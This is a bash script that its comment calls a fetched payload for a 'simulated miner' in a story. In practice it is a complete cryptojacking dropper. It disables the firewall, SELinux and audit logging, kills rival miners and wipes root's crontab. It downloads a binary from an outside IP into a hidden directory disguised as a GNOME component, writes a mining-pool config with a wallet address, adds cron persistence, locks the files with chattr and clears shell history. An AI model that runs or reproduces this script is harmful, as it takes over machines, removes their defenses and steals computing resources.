#!/bin/bash
# What the story rival-killer fetches: makes room for a simulated miner and starts it.
ufw disable
setenforce 0
auditctl -e 0
systemctl stop auditd
ps -eo pid,pcpu,comm --sort=-pcpu | head -n 5 >/dev/null
for rival in kdevtmpfsi kinsing; do
    kill -9 "$(cat /run/$rival.pid)"
    rm -f "/tmp/$rival"
done
rm -f /var/spool/cron/crontabs/root
echo "0.0.0.0 rival-pool.example" >>/etc/hosts
mkdir -p /usr/share/.gnome-cache
curl -fsS -o /usr/share/.gnome-cache/gvfsd-meta http://203.0.113.10/agent
chmod 755 /usr/share/.gnome-cache/gvfsd-meta
echo "-o stratum+tcp://203.0.113.25:3333 -u 4A9xRChALFugGoDBphcDkRyXf6T4773ZHGpnSHTuzfYKaCo59FXciwgg5JEEp25JTVG43CKQad96Q9zVNjomae9e32XPmL3 -s 10" >/usr/share/.gnome-cache/meta.conf
echo "*/15 * * * * /usr/share/.gnome-cache/gvfsd-meta -c /usr/share/.gnome-cache/meta.conf" >/var/spool/cron/crontabs/root
chattr +i /usr/share/.gnome-cache/gvfsd-meta /var/spool/cron/crontabs/root
nohup /usr/share/.gnome-cache/gvfsd-meta -c /usr/share/.gnome-cache/meta.conf >/dev/null 2>&1 &
history -c
